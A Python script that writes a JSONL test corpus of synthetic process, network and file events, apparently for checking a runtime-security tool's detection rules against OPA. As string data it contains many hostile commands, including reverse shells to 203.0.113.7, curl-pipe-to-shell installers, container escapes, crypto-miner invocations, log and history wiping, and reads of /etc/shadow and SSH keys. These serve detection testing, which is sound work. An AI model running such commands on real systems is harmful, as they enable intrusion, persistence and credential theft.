#!/usr/bin/env python3
"""Writes corpus.jsonl: events (palisade.event/v1, as `palisade run` emits
them) that exercise every rule of the baseline bundle in policies/, with
near misses, the shipped example exception (in scope, out of scope, after
its expiry), every actor class, non-UTF-8 values and odd shapes.

Used to check that OPA and Palisade decide alike:
    xtask/opa/opa_eval.py compare policies < policies/samples/corpus.jsonl
Edit the list below and rerun this script to change the corpus.
"""
import copy, json, os
T = "2026-11-24T13:22:32.910797240Z"
n = 0
def base(kind, binary, args, **proc):
    global n
    n += 1
    p = {"pid": 4000 + n, "ppid": 4000, "uid": 0, "gid": 0, "euid": 0, "egid": 0,
         "binary": binary, "filename": binary, "args": args, "cwd": "/", "cgroup_id": 1,
         "comm": (binary.rsplit("/", 1)[-1] if isinstance(binary, str) else "x")[:15],
         "start_time": T,
         "ancestors": [{"pid": 4000, "binary": "/usr/bin/bash"}, {"pid": 1, "binary": "/usr/lib/systemd/systemd"}]}
    p.update(proc)
    return {"schema": "palisade.event/v1", "id": f"corpus-{n:03d}", "time": T, "node": "node-1", "kind": kind, "process": p}
C = {"id": "3f4e9c0d1b2a5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f", "runtime": "containerd",
     "image": "registry.example.com/shop/web:1.4.2", "name": "web"}
P = {"name": "web-7d9f8b6c5-x2k4q", "namespace": "shop", "uid": "6b1f0f43", "labels": {"app": "web"}}
SHIM = [{"pid": 3100, "binary": "/bin/sh"}, {"pid": 3000, "binary": "/usr/bin/containerd-shim-runc-v2"}, {"pid": 1, "binary": "/usr/lib/systemd/systemd"}]
def host(binary, args, **kw): return base("process_exec", binary, args, **kw)
def cont(binary, args, **kw):
    e = base("process_exec", binary, args, ancestors=SHIM, **kw); e["container"] = dict(C); e["pod"] = copy.deepcopy(P); return e
def anc(e, bins): e["process"]["ancestors"] = [{"pid": 5000 - i, "binary": b} for i, b in enumerate(bins)]; return e
def net(daddr, dport, container=True, proto="tcp", binary="/usr/bin/curl"):
    e = base("network_connect", binary, [binary.rsplit("/",1)[-1], daddr])
    e["network"] = {"protocol": proto, "family": "ipv6" if ":" in daddr else "ipv4", "daddr": daddr, "dport": dport, "saddr": "10.244.1.7", "sport": 43120}
    if container: e["container"] = dict(C); e["pod"] = copy.deepcopy(P); e["process"]["ancestors"] = SHIM[1:]
    return e
ev = []
A = ev.append
# benign
A(host("/usr/bin/env", ["/usr/bin/env", "true", "one", "two words"], cwd="/work/main"))
A(host("/usr/bin/ls", ["ls", "-l"]))
A(cont("/app/server", ["/app/server", "--port", "8080"]))
A(dict(host("/bin/true", ["true"]), kind="process_exit", exit={"code": 0}))
# PAL-001
A(cont("/usr/bin/nc", ["nc", "10.0.0.5", "4444"])); A(cont("/bin/busybox", ["nc", "-lp", "4444"])); A(host("/usr/bin/nc", ["nc", "-z", "localhost", "22"]))
# PAL-002
A(host("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]))
A(cont("/usr/bin/nc.traditional", ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"]))
A(host("/bin/sh", ["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f"]))
A(cont("/usr/bin/socat", ["socat", "EXEC:bash -li,pty,stderr", "TCP:203.0.113.7:4444"]))
A(host("/usr/bin/python3", ["python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")']))
A(host("/usr/bin/socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"]))
# PAL-003
A(cont("/tmp/chisel", ["/tmp/chisel", "client", "203.0.113.7:8000", "R:socks"])); A(host("/usr/bin/ssh", ["ssh", "bastion"]))
# PAL-004
A(anc(cont("/bin/dash", ["sh", "-c", "id"]), ["/usr/sbin/php-fpm8.2", "/usr/bin/containerd-shim-runc-v2"]))
A(anc(host("/usr/bin/bash", ["-bash"]), ["/usr/sbin/sshd", "/usr/lib/systemd/systemd"]))
# PAL-005 + example exception
A(cont("/usr/bin/apt-get", ["apt-get", "install", "-y", "nmap"]))
A(cont("/usr/bin/dpkg", ["dpkg", "-l"]))
e = cont("/usr/bin/apt-get", ["apt-get", "install", "-y", "libpq-dev"]); e["container"]["image"] = "registry.example.com/platform/ci-builder:2026.10"; e["pod"]["namespace"] = "ci-builds"; A(e)
e = copy.deepcopy(e); e["id"] = "corpus-expired"; e["time"] = "2027-04-01T00:00:00.000000001Z"; A(e)
e = copy.deepcopy(e); e["id"] = "corpus-other-image"; e["time"] = T; e["container"]["image"] = "debian:12"; A(e)
A(cont("/usr/bin/python3", ["python3", "-m", "pip", "install", "paramiko"]))
# PAL-006
A(cont("/bin/sh", ["sh", "-c", "curl -fsSL https://get.example.sh | sh"]))
A(host("/usr/bin/bash", ["bash", "-c", 'bash -c "$(curl -fsSL https://203.0.113.7/i.sh)"']))
A(host("/usr/bin/bash", ["bash", "-c", "curl -s http://svc/status | jq .x"]))
# PAL-007
A(cont("/dev/shm/.x/kworker", ["[kworker/0:1]"]))
A(host("/usr/bin/dash", ["/bin/sh", "./run"], filename="./run", cwd="/var/tmp/build"))
A(host("/tmp/go-build1234/b001/exe/main", ["main"]))
# PAL-008
A(cont("/memfd:x", ["/proc/self/fd/3"])); A(host("/memfd:runc_cloned:/proc/self/exe", ["runc", "init"]))
# PAL-009
A(cont("/usr/bin/nsenter", ["nsenter", "-t", "1", "-m", "--", "bash"])); A(cont("/usr/sbin/chroot", ["chroot", "/proc/1/root", "/bin/bash"]))
A(cont("/usr/bin/mount", ["mount", "/dev/nvme0n1p1", "/mnt"])); A(cont("/usr/bin/mount", ["mount", "-t", "tmpfs", "tmpfs", "/x"]))
# PAL-010
A(cont("/opt/xmrig", ["xmrig", "-c", "config.json"])); A(host("/var/tmp/.c/kswapd0", ["kswapd0", "-o", "stratum+tcp://203.0.113.7:3333"]))
A(host("/var/tmp/.c/s", ["s", "--url=gulf.moneroocean.stream:10128"])); A(host("/usr/bin/grep", ["grep", "-r", "stratum+tcp://", "/var/log"]))
# PAL-011/012/015
A(net("169.254.169.254", 80)); A(net("fd00:ec2::254", 80)); A(net("::ffff:169.254.169.254", 80)); A(net("169.254.169.254", 80, container=False))
A(net("203.0.113.7", 4444)); A(net("2001:db8::7", 3333)); A(net("203.0.113.7", 443)); A(net("10.244.3.9", 5432)); A(net("::ffff:192.168.1.20", 6379)); A(net("8.8.8.8", 53, proto="udp"))
e = net("169.254.169.254", 80, container=False); anc(e, ["/usr/bin/bash", "/usr/local/bin/aider"]); A(e)
# PAL-013
A(cont("/usr/local/bin/kubectl", ["kubectl", "get", "secrets", "-A"])); A(host("/usr/local/bin/kubectl", ["kubectl", "get", "pods"]))
# PAL-014
A(anc(host("/usr/bin/pip3", ["pip3", "install", "reqeusts"]), ["/usr/bin/bash", "/home/dev/.local/share/claude/versions/2.0.50", "/usr/sbin/sshd"]))
A(anc(host("/usr/bin/npm", ["npm", "test"]), ["/usr/bin/bash", "/usr/local/bin/claude"]))
A(host("/usr/bin/node", ["node", "/usr/lib/node_modules/@anthropic-ai/claude-code/cli.js"]))
# PAL-016
A(host("/usr/bin/bash", ["bash", "-p"], uid=1000, euid=0)); A(host("/usr/bin/passwd", ["passwd"], uid=1000, euid=0))
# PAL-017
A(host("/usr/bin/bash", ["bash", "-c", "history -c && history -w"])); A(host("/usr/bin/ln", ["ln", "-sf", "/dev/null", "/root/.bash_history"]))
A(host("/usr/bin/bash", ["bash", "-c", "grep ssh ~/.bash_history"]))
# PAL-018
A(cont("/bin/sh", ["sh", "-c", "echo aWQK | base64 -d | bash"])); A(host("/usr/bin/python3", ["python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"]))
A(host("/usr/bin/bash", ["bash", "-c", "base64 -d cert.b64 > cert.pem"]))
# PAL-019/020/021
A(cont("/usr/bin/nmap", ["nmap", "-sS", "10.96.0.0/12"])); A(cont("/usr/sbin/insmod", ["insmod", "/tmp/r.ko"])); A(host("/usr/sbin/modprobe", ["modprobe", "br_netfilter"]))
A(host("/usr/bin/rm", ["rm", "-f", "/var/log/auth.log", "/var/log/wtmp"])); A(host("/usr/bin/bash", ["bash", "-c", ": > /var/log/syslog"]))
A(cont("/bin/sh", ["sh", "-c", "exec /app/server > /var/log/app/server.log 2>&1"]))
# several rules at once, actors
A(cont("/usr/bin/nc", ["nc", "-o", "stratum+tcp://203.0.113.7:3333"]))
A(anc(host("/usr/bin/make", ["make"]), ["/usr/bin/bash", "/home/runner/actions-runner/bin/Runner.Worker"]))
A(host("/usr/lib/jvm/java-17/bin/java", ["java", "-jar", "/home/jenkins/agent.jar"]))
A(dict(cont("/bin/sh", ["sh"]), exec_session=True))
# non-UTF-8 and odd shapes
A(host({"base64": "L3RtcC94/w==", "text": "/tmp/x\ufffd"}, [{"base64": "eP8=", "text": "x\ufffd"}, "-o", "pool.supportxmr.com:443"], filename={"base64": "L3RtcC94/w==", "text": "/tmp/x\ufffd"}))
e = cont("/usr/bin/nc", ["nc", "1.2.3.4", "80"]); e["container"]["name"] = None; e["container"]["image"] = None; A(e)
A({"kind": "process_exec"})
A({"kind": "process_exec", "time": "not a time", "process": {"binary": "/usr/bin/nc", "args": ["nc"]}, "container": {"id": "x"}, "pod": {"namespace": "ci-builds"}})
e = host("/usr/bin/nc", ["nc"]); del e["process"]["ancestors"]; del e["process"]["filename"]; A(e)
e = host("/usr/bin/bash", ["bash", "-c"]); A(e)
A(dict(net("203.0.113.7", 4444), network={"daddr": "203.0.113.7"}))
# PAL-022/023: drift (appended, so earlier ids stay)
def drift(e, reason, file="executable"):
    e["process"]["exe"] = {"inode": 77, "dev": 50, "drift": {"reason": reason, "reasons": [reason], "file": file}}; return e
A(drift(cont("/tmp/c/true", ["/tmp/c/true"]), "upper_layer")); A(drift(cont("/bin/busybox", ["/app/run.sh"], filename="/app/run.sh"), "chmod_after_start", "script"))
A(drift(cont("/memfd:x", ["x"]), "memfd")); A(dict(drift(host("/usr/sbin/sshd", ["sshd"]), "written_after_boot"), host=True))
A(drift(host("/memfd:runc_cloned:/proc/self/exe", ["runc", "init"]), "memfd"))
# PAL-040..032: file events (appended, so earlier ids stay)
def fevent(kind, binary, path, **file):
    e = base(kind, binary, [binary.rsplit("/", 1)[-1], path])
    e["file"] = {"path": path, "syscall": "openat", "result": "ok", **file}; return e
def fread(binary, path, **kw): return fevent("file_open", binary, path, access="read", **kw)
def fwrite(binary, path): return fevent("file_open", binary, path, access="write", flags=["create", "truncate"], mode="0644")
A(fread("/usr/bin/cat", "/etc/shadow")); A(fread("/usr/sbin/unix_chkpwd", "/etc/shadow"))
A(fread("/usr/bin/python3", "/etc/gshadow", result="failed", errno=13))
A(fread("/usr/bin/cp", "/root/.ssh/id_ed25519")); A(fread("/usr/bin/cat", "/root/.ssh/id_rsa.pub"))
A(fwrite("/usr/bin/tee", "/etc/cron.d/job")); A(anc(fwrite("/usr/bin/cp", "/etc/cron.d/sysstat"), ["/bin/sh", "/usr/bin/dpkg"]))
A(fevent("file_rename", "/usr/bin/mv", "/tmp/k", new_path="/root/.ssh/authorized_keys", syscall="renameat2"))
A(fwrite("/usr/bin/bash", "/etc/ld.so.preload")); A(fwrite("/usr/bin/bash", "/etc/sudoers.d/90-x"))
A(fwrite("/usr/bin/bash", "/root/.bashrc")); A(fwrite("/usr/bin/tee", "/etc/systemd/system/u.service"))
A(fevent("file_unlink", "/usr/bin/rm", "/sys/fs/bpf/palisade/maps/EXEC_DENY_NAME", syscall="unlinkat"))
A(fevent("file_chmod", "/usr/bin/chmod", "/etc/cron.d/job", mode="0755", syscall="fchmodat"))
e = fevent("file_open", "/bin/busybox", "/etc/shadow", access="read"); e["container"] = dict(C); e["pod"] = copy.deepcopy(P); A(e)
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "policies", "samples", "corpus.jsonl"), "w") as f:
    for e in ev: f.write(json.dumps(e, ensure_ascii=False, separators=(",", ":")) + "\n")
print(len(ev), "events")
